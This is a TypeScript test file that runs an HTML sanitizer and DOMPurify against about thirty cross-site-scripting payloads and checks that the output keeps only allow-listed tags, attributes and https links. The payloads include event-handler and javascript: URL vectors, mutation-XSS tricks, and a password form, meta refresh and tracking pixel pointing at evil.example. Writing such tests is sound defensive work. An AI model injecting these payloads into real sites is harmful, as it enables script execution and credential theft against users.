import { expect } from '@open-wc/testing';
import { purifyInto, sanitizeInto } from './sanitizer';

/** Shapes of attack after the public cheat sheets: what must be inert, whatever remains of it. */
const HOSTILE = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><circle/></svg>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
  '<a href="javascript:window.pwned=1">x</a>',
  '<a href=" java&#x09;script:window.pwned=1">x</a>',
  '<a href="JaVaScRiPt:window.pwned=1">x</a>',
  '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="/relative">x</a>',
  '<p style="background:url(javascript:window.pwned=1)" onclick="window.pwned=1" id="x" class="y" name="z">x</p>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:window.pwned=1">x</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=x>',
  '<template><img src=x onerror="window.pwned=1"></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<style>*{display:none}</style>',
  '<video><source onerror="window.pwned=1"></video><audio src=x onerror="window.pwned=1">',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<body onload="window.pwned=1"><marquee onstart="window.pwned=1">x</marquee>',
  '<select><option><style></option></select><img src=x onerror="window.pwned=1"></style>',
  '<lync-chat-button queue="sip:evil@example.com"></lync-chat-button><custom-thing onclick="window.pwned=1"></custom-thing>',
  '<p><div><b><a href="https://a.example" target="_top" rel="opener" onclick="window.pwned=1" ping="https://evil.example">x',
  '<img src="https://evil.example/pixel.gif"><p background="https://evil.example/p.gif">x</p>',
  '<!--><img src=x onerror=window.pwned=1>-->',
  '<x/onmouseover="window.pwned=1">x',
  '"><script>window.pwned=1</script>',
];

const ALLOWED = [
  'a',
  'b',
  'blockquote',
  'br',
  'code',
  'div',
  'em',
  'i',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'span',
  'strong',
  'u',
  'ul',
];
const SAFE_ATTRIBUTES = ['href', 'dir', 'lang', 'target', 'rel'];

for (const [engine, run] of [
  ['the best engine of this browser', sanitizeInto],
  ['DOMPurify', purifyInto],
] as const) {
  describe(`sanitizer, ${engine}`, () => {
    for (const unsafe of HOSTILE) {
      it(`makes inert: ${unsafe.slice(0, 60)}`, async () => {
        const target = document.createElement('div');
        document.body.append(target);
        await run(target, unsafe);
        for (const element of target.querySelectorAll('*')) {
          expect(ALLOWED).to.include(element.localName);
          for (const { name } of element.attributes) expect(SAFE_ATTRIBUTES).to.include(name);
        }
        for (const link of target.querySelectorAll('a')) {
          if (link.hasAttribute('href')) {
            expect(link.getAttribute('href')).to.match(/^https?:/);
            expect(link.rel).to.equal('noopener noreferrer nofollow');
            expect(link.target).to.equal('_blank');
          }
        }
        target.click();
        await new Promise((resolve) => setTimeout(resolve));
        expect((window as { pwned?: number }).pwned).to.equal(undefined);
        target.remove();
      });
    }

    it('keeps what is harmless', async () => {
      const target = document.createElement('div');
      await run(
        target,
        '<p dir="rtl">A <b>bold</b> <a href="https://contoso.com/">link</a><br><code>x</code></p><ul><li>1</li></ul>',
      );
      expect(target.querySelector('p')!.dir).to.equal('rtl');
      expect(target.querySelector('b')!.textContent).to.equal('bold');
      expect(target.querySelector('a')!.href).to.equal('https://contoso.com/');
      expect(target.querySelectorAll('li')).to.have.length(1);
    });
  });
}
